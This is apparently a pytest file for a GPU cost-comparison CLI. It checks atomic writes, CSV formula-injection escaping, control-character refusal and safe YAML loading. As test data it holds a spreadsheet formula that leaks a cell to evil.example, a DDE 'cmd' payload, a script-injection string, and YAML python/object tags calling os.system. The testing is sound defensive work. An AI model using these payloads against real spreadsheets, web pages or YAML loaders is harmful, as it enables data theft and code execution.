"""Safe output: atomic writes, no formulas from user text in CSV, no terminal escapes in tables,
exact round trip of hostile text in JSON, and YAML that cannot build objects.

(The workbook and HTML exporters test their own injection cases.)"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from pathlib import Path
from typing import Self

import pandas as pd
import pytest
from click.testing import CliRunner

from tco import fsio
from tco.cli import cli
from tco.errors import OutputError, TcoError
from tco.exporters.data import printable, rows_csv, safe_cell
from tco.yamlio import load_yaml_text

# --- atomic writes ---------------------------------------------------------------------------


@pytest.fixture
def previous(tmp_path: Path) -> Path:
    target = tmp_path / "report.json"
    target.write_text("previous\n")
    return target


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_write_replaces_the_file_whole(previous: Path) -> None:
    fsio.write_atomic(previous, "new\n")
    assert previous.read_text() == "new\n"
    assert stat.S_IMODE(previous.stat().st_mode) == 0o644
    assert leftovers(previous.parent) == ["report.json"]


def test_failed_rename_keeps_the_previous_file(previous: Path, monkeypatch: pytest.MonkeyPatch
                                               ) -> None:
    def refuse(src: str, dst: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(OutputError, match="No space left on device"):
        fsio.write_atomic(previous, "new\n")
    assert previous.read_text() == "previous\n"
    assert leftovers(previous.parent) == ["report.json"]


def test_failure_half_way_through_the_write(previous: Path, monkeypatch: pytest.MonkeyPatch
                                            ) -> None:
    """The disk fills after half the bytes: the half-written temporary file is removed."""
    real_fdopen = os.fdopen
    written: list[int] = []

    class HalfFull:
        def __init__(self, fh: io.BufferedWriter) -> None:
            self.fh = fh

        def __enter__(self) -> Self:
            return self

        def __exit__(self, *exc: object) -> None:
            self.fh.close()

        def write(self, data: bytes) -> int:
            written.append(self.fh.write(data[: len(data) // 2]))
            self.fh.flush()
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fdopen", lambda fd, mode: HalfFull(real_fdopen(fd, mode)))
    with pytest.raises(OutputError, match="No space left on device"):
        fsio.write_atomic(previous, "x" * 1000)
    assert written == [500]
    assert previous.read_text() == "previous\n"
    assert leftovers(previous.parent) == ["report.json"]


def test_interrupt_during_write(previous: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C between writing and renaming: the interrupt propagates, nothing is left."""

    def interrupted(fd: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        fsio.write_atomic(previous, "new\n")
    assert previous.read_text() == "previous\n"
    assert leftovers(previous.parent) == ["report.json"]


def test_cli_export_failure_is_one_message_and_keeps_the_file(
        previous: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(src: str, dst: str) -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(os, "replace", refuse)
    result = CliRunner().invoke(cli, ["compare", "--format", "json", "-o", str(previous)])
    assert result.exit_code == 2
    assert result.stderr == f"tco: error: {previous}: cannot write: Input/output error\n"
    assert previous.read_text() == "previous\n"
    assert leftovers(previous.parent) == ["report.json"]


# --- hostile text ----------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_NOTES = "+cmd|' /C calc'!A0"
HOSTILE_SCENARIO = "@SUM(1+1) </script><script>alert(1)</script>\nrow"
# Terminal escapes, bell and bidirectional overrides are refused where the file is read
# (tco/text.py, tests/test_hostile_files.py): the outputs below need no escaping of them.
CONTROLS = "\u202e \x1b[2J\x1b[31mred\x07"


def hostile_scenario(path: Path) -> Path:
    path.write_text(
        "name: " + json.dumps(HOSTILE_SCENARIO) + "\n"
        "workloads:\n"
        "  - id: llama-7b\n    params: 7e9\n    tokens: 1e11\n"
        "candidates:\n"
        "  - id: h100\n    card: h100-sxm\n    cards: 64\n"
        "    name: " + json.dumps(HOSTILE_NAME) + "\n"
        "    notes: " + json.dumps(HOSTILE_NOTES) + "\n"
        "  - id: b200\n    card: b200\n    cards: 64\n"
        "    name: \"-2+3\"\n"
        "    notes: \"\\t=1+1\"\n",
        encoding="utf-8",
    )
    return path


def run_ok(args: list[str]) -> str:
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_safe_cell_escapes_strings_only() -> None:
    # OWASP "CSV Injection": prefix cells starting with = + - @ tab or CR with an apostrophe.
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert safe_cell("-5") == "'-5"  # text that looks like a number is still text
    assert safe_cell(-5.0) == -5.0  # a number stays a number, sign and all
    assert safe_cell(-5) == -5
    assert safe_cell("h100-sxm") == "h100-sxm"
    assert safe_cell("") == ""


def test_csv_never_starts_a_text_cell_with_a_formula(tmp_path: Path) -> None:
    text = run_ok(["compare", str(hostile_scenario(tmp_path / "s.yaml")), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(text)))
    by_id = {r["id"]: r for r in rows}
    assert by_id["h100"]["name"] == "'" + HOSTILE_NAME
    assert by_id["h100"]["notes"] == "'" + HOSTILE_NOTES
    assert by_id["b200"]["name"] == "'-2+3"
    assert by_id["b200"]["notes"] == "'\t=1+1"
    for row in rows:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start with a sign; anything else is a leak


# A carriage return only as part of a Windows line end: a lone one is refused where it is read.
LINE_BREAK_NAMES = {"h100": "x\r\n@SUM(1+1)", "b200": "a\n=cmd"}
LINE_BREAK_NOTES = "first\r\n+1+1\r\n-2\n\t@x"


def line_break_scenario(path: Path) -> Path:
    path.write_text(
        "name: " + json.dumps("plain\r\n=1+1") + "\n"
        "workloads:\n"
        "  - id: llama-7b\n    params: 7e9\n    tokens: 1e11\n"
        "candidates:\n"
        "  - id: h100\n    card: h100-sxm\n    cards: 64\n"
        "    name: " + json.dumps(LINE_BREAK_NAMES["h100"]) + "\n"
        "    notes: " + json.dumps(LINE_BREAK_NOTES) + "\n"
        "  - id: b200\n    card: b200\n    cards: 64\n"
        "    name: " + json.dumps(LINE_BREAK_NAMES["b200"]) + "\n",
        encoding="utf-8",
    )
    return path


def assert_no_formula_line(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            for line in re.split(r"\r\n|\r|\n", cell):
                if line[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(line)  # only a number may start with a sign


def test_safe_cell_neutralises_every_line() -> None:
    assert safe_cell("x\r@SUM(1+1)") == "x\r'@SUM(1+1)"
    assert safe_cell("a\n=cmd") == "a\n'=cmd"
    assert safe_cell("=a\r\n-b\n+c\r\td") == "'=a\r\n'-b\n'+c\r'\td"
    assert safe_cell("one\ntwo - three\n") == "one\ntwo - three\n"


def test_csv_quotes_line_breaks_and_neutralises_each_line(tmp_path: Path) -> None:
    """A CR used to go out unquoted: a spreadsheet (and the csv module) started a new row
    there, and the rest of the name became a live @SUM(...) cell."""
    result = CliRunner().invoke(cli, ["compare", str(line_break_scenario(tmp_path / "s.yaml")),
                                      "--format", "csv"])
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode()  # .stdout would turn CR LF into LF
    rows = list(csv.reader(io.StringIO(text, newline="")))
    # the header, two candidates and the two options renting them (rent_options: auto, whose
    # names repeat the candidates'), then the plan and the plan restricted to each of the four:
    # no row was split
    assert len(rows) == 10
    assert [r[3] for r in rows[1:]][4:] == ["plan"] * 5
    assert sorted(r[3] for r in rows[1:5]) == ["buy", "buy", "rent", "rent"]
    assert {len(r) for r in rows} == {len(rows[0])}
    by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert by_id["h100"]["name"] == "x\r\n'@SUM(1+1)"
    assert by_id["b200"]["name"] == "a\n'=cmd"
    assert by_id["h100"]["notes"] == "first\r\n'+1+1\r\n'-2\n'\t@x"
    assert_no_formula_line(rows)
    assert by_id["b200-rent"]["name"] == "a\n'=cmd, rented"
    assert len(pd.read_csv(io.StringIO(text))) == 9
    # Outside quoted cells every row ends with LF alone, as before.
    assert text.count("\n") - sum(c.count("\n") for r in rows for c in r) == 10


def test_analysis_csv_quotes_line_breaks() -> None:
    text = rows_csv(["id", "label"], [["a\rb", "=1\r@2"], ["c", None]])
    assert text == "id,label\n\"a\rb\",\"'=1\r'@2\"\nc,\n"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["id", "label"], ["a\rb", "'=1\r'@2"], ["c", ""]]
    assert_no_formula_line(rows)


def test_csv_numbers_stay_numbers(tmp_path: Path) -> None:
    text = run_ok(["compare", str(hostile_scenario(tmp_path / "s.yaml")), "--format", "csv"])
    # exact float parsing: pandas before 3 parses fast by default and may be 1 ulp off
    # (round_trip asks for exact); pandas 3 parses exactly and deprecates the argument
    exact = {} if int(pd.__version__.split(".")[0]) >= 3 else {"float_precision": "round_trip"}
    frame = pd.read_csv(io.StringIO(text), **exact)
    frame = frame[frame["acquire"] != "plan"]  # the options' rows; the plan's follow them
    for column in ("cards", "gpu_hours_per_job", "cost_per_job", "npv_tco", "undiscounted_tco",
                   "cost_per_gpu_hour", "cloud_npv", "breakeven_utilization"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column
    js = json.loads(run_ok(["compare", str(tmp_path / "s.yaml"), "--format", "json"]))
    npv = {c["id"]: c["npv_tco"] for c in js["candidates"]}
    assert dict(zip(frame["id"], frame["npv_tco"])) == npv  # full precision, same numbers


def test_json_round_trips_hostile_text_exactly(tmp_path: Path) -> None:
    text = run_ok(["compare", str(hostile_scenario(tmp_path / "s.yaml")), "--format", "json"])
    assert "\x1b" not in text and "\x07" not in text  # control characters are \u escapes
    data = json.loads(text)
    assert data["scenario"] == HOSTILE_SCENARIO
    h100 = next(c for c in data["candidates"] if c["id"] == "h100")
    assert h100["name"] == HOSTILE_NAME
    assert h100["notes"] == [HOSTILE_NOTES]


def test_table_shows_hostile_text_on_one_line(tmp_path: Path) -> None:
    text = run_ok(["compare", str(hostile_scenario(tmp_path / "s.yaml"))])
    title = text.splitlines()[0]
    assert title == "@SUM(1+1) </script><script>alert(1)</script> row (USD, 5-year horizon)"
    assert HOSTILE_NOTES in text  # plain text is shown as is


def test_control_characters_never_reach_an_output(tmp_path: Path) -> None:
    """Refused where the scenario is read, shown escaped in the one message."""
    path = tmp_path / "s.yaml"
    path.write_text(hostile_scenario(tmp_path / "h.yaml").read_text().replace(
        json.dumps(HOSTILE_SCENARIO), json.dumps(CONTROLS)), encoding="utf-8")
    result = CliRunner().invoke(cli, ["compare", str(path), "--format", "csv"])
    assert result.exit_code == 2 and result.stdout == ""
    assert not any(ch in result.stderr for ch in "\x1b\x07\u202e\r")
    assert result.stderr == (f"tco: error: {path}:1: name: found '\\u202e \\x1b[2J\\x1b[31mred"
                             "\\x07': character 1 is U+202E (RIGHT-TO-LEFT OVERRIDE), a "
                             "bidirectional control, which would reorder the text and figures "
                             "shown around it; remove it\n")


def test_printable_keeps_ordinary_text() -> None:
    assert printable("Ascend 910B · 昇腾 — 8×") == "Ascend 910B · 昇腾 — 8×"
    assert printable("a\tb\nc") == "a b c"
    assert printable("\u200bzero-width") == "\\u200bzero-width"


# --- YAML builds data, never objects -----------------------------------------------------------


@pytest.mark.parametrize("tag", [
    "!!python/object/apply:os.system",
    "!!python/object/new:subprocess.Popen",
    "!!python/name:os.system",
    "!!python/module:os",
])
def test_python_tags_are_refused_and_not_run(tag: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    text = f'name: {tag} ["touch {canary}"]\n'
    with pytest.raises(TcoError, match=f"YAML tag {tag} is not allowed") as info:
        load_yaml_text(text, "evil.yaml")
    assert info.value.line == 1
    assert not canary.exists()


def test_scenario_with_python_tag_through_the_cli(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    evil = tmp_path / "evil.yaml"
    evil.write_text(f'name: !!python/object/apply:os.system ["touch {canary}"]\n')
    result = CliRunner().invoke(cli, ["validate", str(evil)])
    assert result.exit_code == 2
    assert result.stderr.startswith(f"tco: error: {evil}:1: YAML tag !!python/object/apply")
    assert not canary.exists()
